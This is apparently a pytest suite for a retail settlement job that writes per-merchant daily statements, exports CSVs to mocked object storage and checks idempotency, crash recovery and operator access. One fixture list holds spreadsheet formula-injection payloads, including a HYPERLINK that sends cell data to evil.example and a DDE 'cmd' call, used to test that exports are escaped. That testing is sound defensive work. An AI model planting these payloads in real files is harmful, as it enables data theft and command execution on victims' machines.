"""settlement_run: statements per merchant and day, exported to (moto) COS, never rewritten."""

from __future__ import annotations

import json
import subprocess
import sys
import urllib.request
from contextlib import contextmanager
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import boto3
import pytest
from moto import mock_aws
from moto.server import ThreadedMotoServer

from retail.adapters import object_storage
from retail.common.batches import Budget
from retail.common.settings import reset_settings
from retail.orders import due_for_settlement
from retail.settlement.claims import LOOKBACK, final_claims
from retail.settlement.ledger import commission_on
from retail.settlement.lines import statement_rows
from retail.settlement.statements import SettleDay, run_settlement

from .harness import as_operator, handler, sample

ROOT = Path(__file__).resolve().parents[2]
DAY = "2026-11-23"
CST = timezone(timedelta(hours=8))
COS = "https://cos.ap-shanghai.myqcloud.com"


@contextmanager
def past_the_lease():
    """A run that died holds its day until its lease is over (settlement.progress): the
    next timer run, minutes later."""
    from retail.common.clock import travel

    travel(timedelta(minutes=2))
    try:
        yield
    finally:
        travel(timedelta(0))


def _at(hour: int, day: str = DAY) -> datetime:
    return datetime.fromisoformat(f"{day}T{hour:02d}:30:00").replace(tzinfo=CST)


def _line(merchant, sku, amount, qty=1):
    return {"merchant_id": merchant, "sku_id": sku, "title": sku, "qty": qty, "amount": amount}


@pytest.fixture
def orders(seeded):
    docs = [
        {
            "_id": "O1",
            "lines": [_line("m-self", "a", 1990), _line("m-huaxia", "b", 2990, 2)],
            "completed_at": _at(9),
        },
        {"_id": "O2", "lines": [_line("m-dianfeng", "c", 19800)], "completed_at": _at(23)},
        {
            "_id": "O3",
            "lines": [_line("m-self", "d", 1290)],
            "completed_at": _at(1, "2026-11-22"),
            "refunded_at": _at(12),
        },  # completed before, refunded on DAY: an adjustment
        {"_id": "O4", "lines": [_line("m-self", "e", 990)], "completed_at": _at(0, "2026-11-24")},
        {"_id": "O5", "lines": [_line("m-huaxia", "f", 5000)]},  # never completed
    ]
    seeded.orders.insert_many(
        [{**d, "openid": f"o-{d['_id']}", "idempotency_key": d["_id"]} for d in docs]
    )
    return docs


@pytest.fixture
def cos(monkeypatch):
    for key, value in {
        "MOTO_S3_CUSTOM_ENDPOINTS": COS,
        "MOTO_ALLOW_NONEXISTENT_REGION": "True",
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "RETAIL_COS_BUCKET": "statements-1250000000",
        "RETAIL_COS_ADDRESSING": "path",
        "RETAIL_COS_SECRET_ID": "testing",
        "RETAIL_COS_SECRET_KEY": "testing",
    }.items():
        monkeypatch.setenv(key, value)
    reset_settings()
    object_storage.forget_client()
    with mock_aws():
        s3 = boto3.client("s3", region_name="ap-shanghai", endpoint_url=COS)
        s3.create_bucket(
            Bucket="statements-1250000000",
            CreateBucketConfiguration={"LocationConstraint": "ap-shanghai"},
        )
        yield s3
    object_storage.forget_client()


def settle(day=DAY):
    event = {**sample("settlement_run"), "Message": json.dumps({"day": day})}
    answer = handler("settlement_run")(event, {})
    assert answer["code"] == "OK", answer
    return answer["data"]


def expected(db, orders, merchant):
    rate = db.merchants.find_one({"_id": merchant})["commission_rate_bp"]
    start, end = (
        _at(0).replace(hour=0, minute=0),
        _at(0).replace(hour=0, minute=0) + timedelta(days=1),
    )
    sold = [
        ln
        for o in orders
        if o.get("completed_at") and start <= o["completed_at"] < end
        for ln in o["lines"]
        if ln["merchant_id"] == merchant
    ]
    back = [
        ln
        for o in orders
        if o.get("refunded_at") and start <= o["refunded_at"] < end
        for ln in o["lines"]
        if ln["merchant_id"] == merchant
    ]
    fee = sum(commission_on(ln["amount"], rate) for ln in sold)
    back_fee = sum(commission_on(ln["amount"], rate) for ln in back)
    return sum(ln["amount"] for ln in sold) - fee - (sum(ln["amount"] for ln in back) - back_fee)


def test_statements_match_an_independent_recomputation_and_land_in_cos(seeded, orders, cos):
    summary = settle()
    assert summary["statements_written"] == 3 and summary["csv_exported"] == 3
    for merchant in ("m-self", "m-huaxia", "m-dianfeng"):
        statement = seeded.statements.find_one({"_id": f"{merchant}:{DAY}"})
        assert statement["net"] == expected(seeded, orders, merchant), merchant
        name = f"statement_{merchant}_{DAY}.csv"
        assert statement["csv_key"] == f"statements/{merchant}/{name}"
        exported = cos.get_object(Bucket="statements-1250000000", Key=statement["csv_key"])
        assert exported["ContentDisposition"] == f'attachment; filename="{name}"'
        body = exported["Body"].read().decode("utf-8-sig")
        assert body.splitlines()[-1] == f"net_payable_fen,,,,,{statement['net']},,"
    self_statement = seeded.statements.find_one({"_id": f"m-self:{DAY}"})
    assert (self_statement["gross"], self_statement["refunded"]) == (1990, 1290)


HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_statement_csv_runs_no_formula_and_opens_in_a_chinese_excel(seeded, cos):
    import csv
    import io

    seeded.orders.insert_one(
        {
            "_id": "OX",
            "openid": "o-x",
            "idempotency_key": "OX",
            "lines": [
                _line("m-huaxia", f"x{i}", 100) | {"title": t} for i, t in enumerate(HOSTILE_TITLES)
            ],
            "completed_at": _at(10),
        }
    )
    settle()
    statement = seeded.statements.find_one({"_id": f"m-huaxia:{DAY}"})
    raw = cos.get_object(Bucket="statements-1250000000", Key=statement["csv_key"])["Body"].read()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    titles = [row[3] for row in rows[1:-2]]
    assert sorted(titles) == sorted("'" + t for t in HOSTILE_TITLES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell  # numbers only


def test_running_twice_changes_nothing(seeded, orders, cos):
    settle()
    before = list(seeded.statements.find({}))
    again = settle()
    assert again["statements_written"] == 0 and again["csv_exported"] == 0
    assert list(seeded.statements.find({})) == before


def test_export_failures_are_counted_in_the_answer_and_retried(seeded, orders, cos, monkeypatch):
    def cos_down(*_args, **_kwargs):
        raise ConnectionError("COS is unreachable")

    with monkeypatch.context() as patched:
        patched.setattr(object_storage, "put_text", cos_down)
        first = settle()
    assert (first["statements_written"], first["csv_exported"]) == (3, 0)
    assert (first["export_failed"], first["failed"]) == (3, 3)
    again = settle()
    assert (again["csv_exported"], again["export_failed"], again["failed"]) == (3, 0, 0)
    assert seeded.statements.count_documents({"csv_key": None}) == 0


def test_a_refund_after_closing_goes_to_the_next_statement(seeded, orders, cos):
    settle()
    seeded.orders.update_one({"_id": "O2"}, {"$set": {"refunded_at": _at(10, "2026-11-24")}})
    settle(DAY)
    assert seeded.statements.find_one({"_id": f"m-dianfeng:{DAY}"})["refunded"] == 0
    settle("2026-11-24")
    nxt = seeded.statements.find_one({"_id": "m-dianfeng:2026-11-24"})
    assert nxt["refunded"] == 19800 and nxt["net"] == -(19800 - commission_on(19800, 800))


def test_killed_half_way_then_rerun_equals_one_clean_run(seeded, orders, cos, isolated_env):
    code = (
        "from retail.settlement import SettleDay, run_settlement\n"
        f"run_settlement(SettleDay(day='{DAY}'))\n"
    )
    env = {
        "PATH": "/usr/bin:/bin",
        "RETAIL_ENV": "dev",
        "RETAIL_DB_URI": isolated_env,
        "RETAIL_FAULT_POINT": "settlement:after_statement_1",
        "PYTHONPATH": f"{ROOT / 'layers' / 'retail'}:{ROOT / 'devkit'}",
    }
    killed = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, timeout=60)
    assert killed.returncode == 86, killed.stderr
    assert seeded.statements.count_documents({}) == 1
    held = handler("settlement_run")(sample("settlement_run"), {})["data"]  # its day is DAY
    assert held["skipped"] == 1 and held["stopped_early"] and held["statements_written"] == 0
    with past_the_lease():
        settle()
    for merchant in ("m-self", "m-huaxia", "m-dianfeng"):
        assert seeded.statements.find_one({"_id": f"{merchant}:{DAY}"})["net"] == expected(
            seeded, orders, merchant
        )
    assert seeded.statements.count_documents({"csv_key": None}) == 0


def test_operators_see_their_statements_and_download_them(seeded, orders, monkeypatch):
    server = ThreadedMotoServer(port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    endpoint = f"http://{host}:{port}"
    try:
        for key, value in {
            "AWS_ACCESS_KEY_ID": "testing",
            "AWS_SECRET_ACCESS_KEY": "testing",
            "RETAIL_COS_BUCKET": "statements",
            "RETAIL_COS_ENDPOINT": endpoint,
            "RETAIL_COS_REGION": "us-east-1",
            "RETAIL_COS_ADDRESSING": "path",
            "RETAIL_COS_SECRET_ID": "testing",
            "RETAIL_COS_SECRET_KEY": "testing",
        }.items():
            monkeypatch.setenv(key, value)
        reset_settings()
        object_storage.forget_client()
        boto3.client(
            "s3",
            region_name="us-east-1",
            endpoint_url=endpoint,
            aws_access_key_id="testing",
            aws_secret_access_key="testing",
        ).create_bucket(Bucket="statements")
        settle()

        mine = as_operator("statement_list", {}, "merchant:m-huaxia")["data"]["statements"]
        assert [s["merchant_id"] for s in mine] == ["m-huaxia"]
        assert mine[0]["merchant_name"] == "花夏鲜花蔬果合作社"  # the console shows names
        with urllib.request.urlopen(mine[0]["download"], timeout=10) as response:
            assert response.read().decode("utf-8-sig").startswith("kind,order_id,sku_id")
        assert (
            as_operator("statement_list", {"merchant_id": "m-self"}, "merchant:m-huaxia")["code"]
            == "FORBIDDEN"
        )
        assert as_operator("statement_list", {}, "service")["code"] == "FORBIDDEN"
        assert len(as_operator("statement_list", {}, "admin")["data"]["statements"]) == 3
    finally:
        server.stop()
        object_storage.forget_client()


def _settle_answer(day):
    event = {**sample("settlement_run"), "Message": json.dumps({"day": day})}
    return handler("settlement_run")(event, {})


def test_a_day_that_has_not_ended_plus_the_grace_is_refused(seeded, orders, cos):
    from retail.common.clock import day_of, utcnow

    today = day_of(utcnow())
    for day in (today, today + timedelta(days=1)):
        answer = _settle_answer(day.isoformat())
        assert answer["code"] == "INVALID_ARGUMENT"
        assert answer["details"]["reason"] == "DAY_NOT_ENDED"
    assert seeded.statements.count_documents({}) == 0
    default = handler("settlement_run")(sample("settlement_run"), {})["data"]
    assert default["day"] < today.isoformat()


def test_a_line_completed_after_its_day_closed_is_a_late_line_of_the_next_statement(
    seeded, orders, cos
):
    settle()
    # A worker with a slow clock writes a completion into the closed day (with the to-do
    # mark its completion sets: orders.records.settling).
    seeded.orders.insert_one(
        {
            "_id": "O6",
            "openid": "o-O6",
            "idempotency_key": "O6",
            "completed_at": _at(22),
            "settlement_due": _at(22),
            "lines": [_line("m-huaxia", "g", 4200)],
        }
    )
    settle()
    assert seeded.statements.find_one({"_id": f"m-huaxia:{DAY}"})["gross"] == 2990 * 1
    settle("2026-11-24")
    nxt = seeded.statements.find_one({"_id": "m-huaxia:2026-11-24"})
    assert nxt["gross"] == 4200 and [r[0] for r in statement_rows(seeded, nxt)] == ["late_sale"]
    settle("2026-11-25")
    assert seeded.statements.find_one({"_id": "m-huaxia:2026-11-25"})["gross"] == 0


def test_every_completed_line_is_in_exactly_one_statement(seeded, orders, cos):
    for day in ("2026-11-22", DAY, "2026-11-24", "2026-11-25"):
        settle(day)
        settle(day)
    carried = {}
    for statement in seeded.statements.find({}):
        for row in statement_rows(seeded, statement):
            if row[0].endswith("sale"):
                carried.setdefault((row[1], row[2]), []).append(statement["_id"])
    completed = {
        (o["_id"], ln["sku_id"]) for o in orders if o.get("completed_at") for ln in o["lines"]
    }
    assert set(carried) == completed
    assert all(len(where) == 1 for where in carried.values())


def test_a_claim_a_concurrent_run_left_out_is_released_for_the_next_statement(seeded, orders, cos):
    from retail.settlement.claims import claim_lines

    settle()
    lost_the_race = ["sale:O9:m-self"]
    assert claim_lines(seeded, f"m-self:{DAY}", "late-run", lost_the_race) == set(lost_the_race)
    from retail.settlement.claims import finalize

    assert finalize(seeded, f"m-self:{DAY}") == 1
    assert seeded.settlement_claims.find_one({"_id": "sale:O9:m-self"}) is None


def test_a_missed_daily_run_is_caught_up_by_the_next_and_no_line_is_lost(seeded, orders, cos):
    """The timer did not run for some days (an outage, a failed deploy): its next run, which
    names no day, settles every day of the last LOOKBACK that no run finished, so a sale of a
    day in the gap is in that day's statement, not lost."""
    settle(DAY)
    gap_day = "2026-11-25"
    seeded.orders.insert_one(
        {
            "_id": "O-gap",
            "openid": "o-gap",
            "idempotency_key": "O-gap",
            "completed_at": _at(12, gap_day),
            "lines": [_line("m-huaxia", "g", 1800)],
        }
    )
    timer = {**sample("settlement_run"), "Message": ""}  # as the daily timer sends it
    answer = handler("settlement_run")(timer, {})["data"]
    days = [date.fromisoformat(d) for d in answer["days"]]
    latest = date.fromisoformat(answer["day"])
    window = [latest - timedelta(days=n) for n in range(LOOKBACK.days)]
    assert sorted(days) == sorted(d for d in window if d.isoformat() != DAY)  # DAY was done
    gap = seeded.statements.find_one({"_id": f"m-huaxia:{gap_day}"})
    assert gap["gross"] == 1800 and [row[0] for row in statement_rows(seeded, gap)] == ["sale"]
    merchants = seeded.merchants.count_documents({})
    assert seeded.statements.count_documents({}) == merchants * (len(days) + 1)
    again = handler("settlement_run")(timer, {})["data"]
    assert again["statements_written"] == 0 and again["days"] == [answer["day"]]


def test_a_run_that_died_part_way_is_finished_by_the_next_timer_run(
    seeded, orders, cos, isolated_env
):
    """The timer died after the first statement of a day; an operator then settled a later
    day by hand: the next timer run still writes the missing statements of the first day."""
    import subprocess
    import sys

    from retail.settlement.closing import settleable_day

    latest = settleable_day(None)
    died, before = latest - timedelta(days=1), latest - timedelta(days=2)
    settle(before.isoformat())
    seeded.orders.insert_one(
        {
            "_id": "O-died",
            "openid": "o-died",
            "idempotency_key": "O-died",
            "completed_at": _at(12, died.isoformat()),
            "lines": [_line("m-self", "z", 777)],
        }
    )
    code = (
        "from retail.settlement import SettleDay, run_settlement\n"
        f"run_settlement(SettleDay(day='{died.isoformat()}'))\n"
    )
    env = {
        "PATH": "/usr/bin:/bin",
        "RETAIL_ENV": "dev",
        "RETAIL_DB_URI": isolated_env,
        "RETAIL_FAULT_POINT": "settlement:after_statement_1",
        "PYTHONPATH": f"{ROOT / 'layers' / 'retail'}:{ROOT / 'devkit'}",
    }
    killed = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, timeout=60)
    assert killed.returncode == 86, killed.stderr
    assert seeded.statements.count_documents({"day": died.isoformat()}) == 1
    settle(latest.isoformat())  # by hand
    timer = {**sample("settlement_run"), "Message": ""}
    with past_the_lease():
        assert died.isoformat() in handler("settlement_run")(timer, {})["data"]["days"]
    merchants = seeded.merchants.count_documents({})
    assert seeded.statements.count_documents({"day": died.isoformat()}) == merchants
    carried = [
        s["_id"]
        for s in seeded.statements.find({})
        if any(r[1] == "O-died" for r in statement_rows(seeded, s))
    ]
    assert carried == [f"m-self:{died.isoformat()}"]


def test_a_day_skipped_between_runs_by_hand_is_settled_by_the_next_timer_run(seeded, orders, cos):
    settle(DAY)
    settle("2026-11-26")  # an operator ran a later day by hand; 24 and 25 were never settled
    timer = {**sample("settlement_run"), "Message": ""}
    days = handler("settlement_run")(timer, {})["data"]["days"]
    assert {"2026-11-24", "2026-11-25"} <= set(days) and DAY not in days
    assert seeded.statements.count_documents(
        {"day": "2026-11-24"}
    ) == seeded.merchants.count_documents({})


def test_settled_orders_leave_the_to_do_set_and_a_later_refund_puts_one_back(seeded, cos):
    """A day's settlement reads the orders with a line still owed, not the month behind it:
    an order leaves the set once its lines are in written statements, and comes back when a
    refund after that owes its merchant an adjustment."""
    from retail.common.clock import day_of, travel, utcnow
    from retail.orders import due_for_settlement
    from retail.orders.refunding import finish_refund

    from .harness import completed_order

    order = completed_order("settle-to-do-1", "o-settling")
    assert [o["_id"] for o in due_for_settlement(seeded)] == [order["order_id"]]
    sold = day_of(utcnow())
    travel(timedelta(days=1, hours=3))
    try:
        settle(sold.isoformat())
        assert due_for_settlement(seeded) == []
        claims = seeded.settlement_claims.find({"_id": {"$regex": order["order_id"]}})
        keys = [c["_id"] for c in claims]
        assert keys and final_claims(seeded, keys) == set(keys)
        seeded.orders.update_one(
            {"_id": order["order_id"]}, {"$set": {"status": "REFUNDING"}}
        )  # the refund's own path is tested elsewhere: here only its settlement
        finish_refund(seeded, order["order_id"], "SUCCESS")
        assert [o["_id"] for o in due_for_settlement(seeded)] == [order["order_id"]]
        refunded = day_of(utcnow())
        # past that day's end and its grace whatever the hour now (it began at most 27 h on)
        travel(timedelta(days=3, hours=3))
        settle(refunded.isoformat())
        assert due_for_settlement(seeded) == []
        refund = seeded.statements.find_one({"_id": f"m-huaxia:{refunded.isoformat()}"})
        assert refund["refunded"] > 0
    finally:
        travel(timedelta(0))


def test_a_statement_counting_claims_of_a_run_that_died_is_finished_by_the_next_run(seeded, cos):
    from retail.common.clock import day_of, travel, utcnow
    from retail.orders import due_for_settlement

    from .harness import completed_order

    order = completed_order("settle-to-do-2", "o-settling")
    sold = day_of(utcnow())
    travel(timedelta(days=1, hours=3))
    try:
        settle(sold.isoformat())
        # The run that wrote the statement counted claims a run that died had inserted, and
        # died itself before it finalized the statement.
        seeded.settlement_claims.update_many({}, {"$set": {"run": "a-run-that-died"}})
        keys = [c["_id"] for c in seeded.settlement_claims.find({})]
        assert keys and final_claims(seeded, keys) == set(keys)  # the reader finishes it
        seeded.settlement_claims.update_many({}, {"$set": {"run": "a-run-that-died"}})
        seeded.orders.update_one(
            {"_id": order["order_id"]},
            {
                "$set": {
                    "settlement_due": seeded.orders.find_one({"_id": order["order_id"]})[
                        "completed_at"
                    ]
                }
            },
        )
        settle(sold.isoformat())  # the next run of that day: the orders it read are finished
        assert due_for_settlement(seeded) == []
        assert final_claims(seeded, keys) == set(keys)
        runs = {c["run"] for c in seeded.settlement_claims.find({})}
        assert runs == {s["run"] for s in seeded.statements.find({"lines": {"$gt": 0}})}
    finally:
        travel(timedelta(0))


def test_a_completion_written_without_the_to_do_mark_is_settled_with_its_day(seeded, cos):
    """Code that does not keep settlement's to-do set (a rollback, a deploy half done) still
    has its lines settled: each run also reads its day's and the day before's completions."""
    settle("2026-11-22")
    seeded.orders.insert_one(
        {
            "_id": "O-old-code",
            "openid": "o-old",
            "idempotency_key": "old-code",
            "lines": [_line("m-self", "z", 5000)],
            "completed_at": _at(10),
        }
    )
    settle(DAY)
    carried = [
        s["_id"]
        for s in seeded.statements.find({"day": {"$gte": "2026-11-22"}})
        if any(row[1] == "O-old-code" for row in statement_rows(seeded, s))
    ]
    assert carried == [f"m-self:{DAY}"]


def test_a_statement_keeps_its_lines_in_chunks_and_drops_the_lines_of_runs_that_lost(
    seeded, orders, cos, monkeypatch
):
    """No document grows with a merchant's sales: the statement names chunks of its lines
    (settlement.lines); a run that wrote lines and claims but not the statement (it lost the
    race, or died) leaves nothing once the statement is finalized."""
    from retail.settlement import lines
    from retail.settlement.claims import claim_lines
    from retail.settlement.lines import LineWriter

    monkeypatch.setattr(lines, "CHUNK_ROWS", 2)
    seeded.orders.insert_many(
        [
            {
                "_id": f"O-many-{n}",
                "openid": "o-many",
                "idempotency_key": f"many-{n}",
                "lines": [_line("m-self", f"s{n}", 100 + n)],
                "completed_at": _at(10),
                "settlement_due": _at(10),
            }
            for n in range(7)
        ]
    )
    loser = LineWriter(seeded, f"m-self:{DAY}", "a-run-that-died")
    claim_lines(seeded, f"m-self:{DAY}", loser.run, ["sale:O-gone:m-self"])
    loser.add([["sale", "O-gone", "x", "x", 1, 1, 0, "t"]], "sale:O-gone:m-self")
    loser.flush()
    settle()
    statement = seeded.statements.find_one({"_id": f"m-self:{DAY}"})
    assert "rows" not in statement and "claims" not in statement
    # O1's sale, O3's refund and 7 sales, 2 rows a chunk
    assert statement["lines"] == 9 and len(statement["chunks"]) == 5
    rows = list(statement_rows(seeded, statement))
    assert sorted(r[1] for r in rows if r[0] == "sale") == sorted(
        ["O1", *(f"O-many-{n}" for n in range(7))]
    )
    assert seeded.statement_lines.count_documents({"statement_id": f"m-self:{DAY}"}) == 5
    assert seeded.settlement_claims.find_one({"_id": "sale:O-gone:m-self"}) is None
    csv_rows = cos.get_object(Bucket="statements-1250000000", Key=statement["csv_key"])
    body = csv_rows["Body"].read().decode("utf-8-sig").splitlines()
    assert len(body) == 1 + len(rows) + 2  # header, every row, total and net


class _Pages(Budget):
    """A budget that runs out after `checks` looks at it, whatever the clock (a day too big
    for one invocation, on any machine)."""

    def __init__(self, checks: int) -> None:
        super().__init__(60.0)
        self.left = checks

    def exhausted(self) -> bool:
        self.left -= 1
        return self.left < 0


def test_a_day_too_big_for_one_invocation_is_settled_over_several(seeded, orders, cos, monkeypatch):
    """Each invocation counts what its budget allows, saves where it got and says so; the
    next goes on from there. The statements are those of one clean run."""
    from retail.settlement import ledger

    monkeypatch.setattr(ledger, "PAGE", 2)
    more = [
        {
            "_id": f"O-big-{n}",
            "lines": [_line("m-self", f"b{n}", 500 + n), _line("m-huaxia", f"h{n}", 700)],
            "completed_at": _at(14),
            "settlement_due": _at(14),
        }
        for n in range(9)
    ]
    seeded.orders.insert_many([{**d, "openid": "o-big", "idempotency_key": d["_id"]} for d in more])
    answers = []
    while not answers or answers[-1].stopped_early:
        answers.append(run_settlement(SettleDay(day=DAY), budget=_Pages(4), db=seeded))
        assert len(answers) < 30
    assert len(answers) > 3
    assert all(a.next_cursor.startswith(f"{DAY}:O") for a in answers[:-1] if a.next_cursor)
    for merchant in ("m-self", "m-huaxia", "m-dianfeng"):
        statement = seeded.statements.find_one({"_id": f"{merchant}:{DAY}"})
        assert statement["net"] == expected(seeded, orders + more, merchant), merchant
    named = {c for s in seeded.statements.find({}) for c in s["chunks"]}
    assert {c["_id"] for c in seeded.statement_lines.find({})} == named
    sales = [
        (r[1], r[2])
        for s in seeded.statements.find({})
        for r in statement_rows(seeded, s)
        if r[0] == "sale"
    ]
    assert len(sales) == len(set(sales))  # no line counted twice across the invocations
    assert {o["_id"] for o in more} <= {order for order, _ in sales}
    keys = [c["_id"] for c in seeded.settlement_claims.find({})]
    assert final_claims(seeded, keys) == set(keys)


def test_an_invocation_that_lost_its_day_stops_at_its_next_save(seeded):
    """One invocation holds a day at a time; one whose lease ran out while it still ran
    (a stall) finds out when it saves, and the one that took the day goes on."""
    from retail.settlement.progress import keep, take_day

    day, rates, lease = date(2026, 11, 23), {"m-self": 300}, timedelta(seconds=60)
    first = take_day(seeded, day, rates, lease)
    assert first is not None and take_day(seeded, day, rates, lease) is None
    with past_the_lease():
        second = take_day(seeded, day, rates, lease)
    # the taker counts under a run of its own: what the stalled one claims is not its
    assert second is not None and second.run != first.run and second.after == first.after
    assert keep(seeded, first, lease) is False
    assert keep(seeded, second, lease) is True


# The hostile review of the resumable run (d2c820f): each of these failed before its fix.
NEXT = "2026-11-24"


def _where(db, order_id):
    return sorted(
        (s["_id"], r[0])
        for s in db.statements.find({})
        for r in statement_rows(db, s)
        if r[1] == order_id
    )


def test_claims_an_invocation_inserts_after_losing_its_day_are_released_not_final(
    seeded, orders, cos
):
    from retail.settlement.ledger import count_day
    from retail.settlement.progress import take_day

    lease = timedelta(seconds=60)
    rates = {m["_id"]: m.get("commission_rate_bp", 0) for m in seeded.merchants.find({})}
    a = take_day(seeded, date.fromisoformat(DAY), rates, lease)  # invocation A, then it stalls
    with past_the_lease():
        b = run_settlement(SettleDay(day=DAY), db=seeded)  # B takes the day over, finishes it
    assert not b.stopped_early and b.statements_written == len(rates)
    # A completion of DAY lands late (slow clock / past the grace), with its to-do mark.
    seeded.orders.insert_one(
        {
            "_id": "O7",
            "openid": "o-7",
            "idempotency_key": "O7",
            "lines": [_line("m-huaxia", "late", 4200)],
            "completed_at": _at(22),
            "settlement_due": _at(22),
        }
    )
    # A wakes up and goes on counting (its lease is gone; it learns so only at its save)
    assert count_day(seeded, a, Budget(60.0), lease) is False
    run_settlement(SettleDay(day=NEXT), db=seeded)
    run_settlement(SettleDay(day="2026-11-25"), db=seeded)
    # released once the reader finds it held for a written statement that does not count it
    # (the next run's settle pass): a late sale of a later statement, exactly once
    assert [kind for _, kind in _where(seeded, "O7")] == ["late_sale"]
    assert "O7" not in [o["_id"] for o in due_for_settlement(seeded)]


def _completed_of_the_day(db, order_id: str, sku: str) -> None:
    """A completion of DAY for m-self, in settlement's to-do set."""
    db.orders.insert_one(
        {
            "_id": order_id,
            "openid": "o",
            "idempotency_key": order_id,
            "lines": [_line("m-self", sku, 1000)],
            "completed_at": _at(20),
            "settlement_due": _at(20),
        }
    )


def _old_statement(db, merchant, day, rows, claims):
    """As the code before dc7bbcd wrote it: rows and claims inline, no run, no chunks."""
    gross = sum(r[5] for r in rows)
    db.statements.insert_one(
        {
            "_id": f"{merchant}:{day}",
            "merchant_id": merchant,
            "day": day,
            "commission_rate_bp": 0,
            "gross": gross,
            "commission": 0,
            "refunded": 0,
            "refunded_commission": 0,
            "net": gross,
            "rows": rows,
            "claims": claims,
            "csv_key": "x",
            "status": "CLOSED",
            "created_at": _at(3, NEXT),
        }
    )


def test_a_claim_an_older_statement_left_out_goes_to_the_next_statement(seeded, cos):
    from retail.common.clock import utcnow
    from retail.settlement.closing import day_finished

    # Old code settled DAY: m-self's statement lists O-a; a concurrent old run had claimed
    # O-b for the same statement, lost the race and died before it finalized (release).
    for oid in ("O-a", "O-b"):
        _completed_of_the_day(seeded, oid, oid)
        seeded.settlement_claims.insert_one(
            {
                "_id": f"sale:{oid}:m-self",
                "statement_id": f"m-self:{DAY}",
                "final": False,
                "at": utcnow(),
            }
        )
    _old_statement(
        seeded, "m-self", DAY, [["sale", "O-a", "O-a", "O-a", 1, 1000, 0, "t"]], ["sale:O-a:m-self"]
    )
    day_finished(seeded, date.fromisoformat(DAY))
    for day in (NEXT, "2026-11-25"):
        run_settlement(SettleDay(day=day), db=seeded)
    assert _where(seeded, "O-b") != []


def test_a_claim_of_older_code_counted_by_a_run_becomes_final(seeded, cos):
    from retail.common.clock import utcnow

    # Old code died after claiming O-c for m-self's statement of DAY, before writing it.
    _completed_of_the_day(seeded, "O-c", "c")
    seeded.settlement_claims.insert_one(
        {"_id": "sale:O-c:m-self", "statement_id": f"m-self:{DAY}", "final": False, "at": utcnow()}
    )
    for day in (DAY, NEXT, "2026-11-25"):
        run_settlement(SettleDay(day=day), db=seeded)
    assert "O-c" not in [o["_id"] for o in due_for_settlement(seeded)]


def test_a_merchant_added_while_a_day_is_counted_has_its_lines_settled(
    seeded, orders, cos, monkeypatch
):
    from retail.settlement import ledger

    monkeypatch.setattr(ledger, "PAGE", 1)
    first = run_settlement(SettleDay(day=DAY), budget=_Pages(2), db=seeded)
    assert first.stopped_early
    # A merchant goes live mid-run; a completion of its line lands in DAY (a slow clock).
    seeded.merchants.insert_one({"_id": "m-new", "name": "new", "commission_rate_bp": 500})
    seeded.orders.insert_one(
        {
            "_id": "O-new",
            "openid": "o",
            "idempotency_key": "O-new",
            "lines": [_line("m-new", "n", 3000)],
            "completed_at": _at(23),
            "settlement_due": _at(23),
        }
    )
    with past_the_lease():
        while run_settlement(SettleDay(day=DAY), db=seeded).stopped_early:
            pass
    for day in (NEXT, "2026-11-25", "2026-11-26"):
        run_settlement(SettleDay(day=day), db=seeded)
    assert _where(seeded, "O-new") != []


class _Crash(BaseException):
    """The process dying at a fault point (not an Exception: nothing catches it)."""


def _random_orders(rnd) -> list[dict]:
    """Completed orders of DAY over the three merchants, a third of them refunded later."""
    made = []
    for n in range(25):
        merchants = [rnd.choice(["m-self", "m-huaxia", "m-dianfeng"]) for _ in range(3)]
        order = {
            "_id": f"O-r{rnd.randint(0, 99):02d}-{n}",
            "openid": "o",
            "idempotency_key": f"r{n}",
            "lines": [
                _line(m, f"s{n}", rnd.randint(1, 9999)) for m in merchants[: rnd.randint(1, 3)]
            ],
            "completed_at": _at(rnd.randint(0, 23)),
        }
        if rnd.random() < 0.3:
            order["refunded_at"] = _at(rnd.randint(order["completed_at"].hour, 23))
        order["settlement_due"] = order.get("refunded_at", order["completed_at"])
        made.append(order)
    return made


def _statements_as_read(db) -> dict[str, tuple]:
    """Every statement's totals and rows; each one's totals are its rows' sums."""
    seen = {}
    for s in db.statements.find({}):
        rows = list(statement_rows(db, s))
        assert s["gross"] == sum(r[5] for r in rows if r[5] > 0) and s["lines"] == len(rows)
        assert s["refunded"] == -sum(r[5] for r in rows if r[5] < 0)
        totals = (s["gross"], s["commission"], s["refunded"], s["refunded_commission"])
        seen[s["_id"]] = (totals, sorted(tuple(r[:7]) for r in rows))
    return seen


@pytest.mark.parametrize("crash_at", [1, 2, 3, 5, 8])
def test_a_run_dying_after_any_page_ends_as_one_clean_run(
    seeded, orders, cos, monkeypatch, crash_at
):
    import random

    from retail.settlement import ledger

    monkeypatch.setattr(ledger, "PAGE", 2)
    monkeypatch.setattr(ledger, "SAVE_EVERY", 3)
    seeded.orders.insert_many(_random_orders(random.Random(crash_at)))
    pages = iter(range(1, 10**6))

    def fault(name):
        if name == "settlement:after_page" and next(pages) == crash_at:
            raise _Crash(name)

    monkeypatch.setattr(ledger, "fault_point", fault)
    with pytest.raises(_Crash):
        run_settlement(SettleDay(day=DAY), budget=_Pages(100), db=seeded)
    with past_the_lease():
        while run_settlement(SettleDay(day=DAY), budget=_Pages(5), db=seeded).stopped_early:
            pass
    got = _statements_as_read(seeded)
    for collection in ("statements", "statement_lines", "settlement_claims", "settlement_runs"):
        seeded[collection].delete_many({})
    seeded.settlement_days.delete_many({})
    for o in seeded.orders.find({"completed_at": {"$exists": True}}):
        due = o.get("refunded_at", o["completed_at"])
        seeded.orders.update_one({"_id": o["_id"]}, {"$set": {"settlement_due": due}})
    monkeypatch.setattr(ledger, "fault_point", lambda name: None)
    run_settlement(SettleDay(day=DAY), db=seeded)
    assert got == _statements_as_read(seeded)  # one clean run, on the same orders


